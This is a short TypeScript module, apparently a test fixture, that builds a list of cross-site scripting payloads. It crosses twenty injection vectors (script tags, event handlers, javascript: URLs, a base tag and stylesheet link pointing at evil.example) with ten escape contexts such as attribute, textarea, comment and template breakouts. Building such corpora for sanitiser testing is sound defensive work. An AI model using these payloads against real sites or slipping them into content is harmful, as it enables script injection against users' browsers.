const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href=javascript:alert(1)>x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=javascript:alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
];
const places = [
  '#',
  '"\'>#',
  '</textarea>#',
  '</title>#',
  '--><!-- #',
  '`${alert(1)}` #',
  "{{constructor.constructor('alert(1)')()}} #",
  'https://example.com/"onmouseover="alert(1) #',
  '[x](javascript:alert(1)) #',
  '&lt;# &#x3c;img src=x onerror=alert(1)&#x3e;',
];

/** Texts that run a script wherever one of them is taken for more than text: each attack in each place. */
export const payloads: readonly string[] = places.flatMap((place) =>
  attacks.map((attack) => place.replace('#', () => attack)),
);
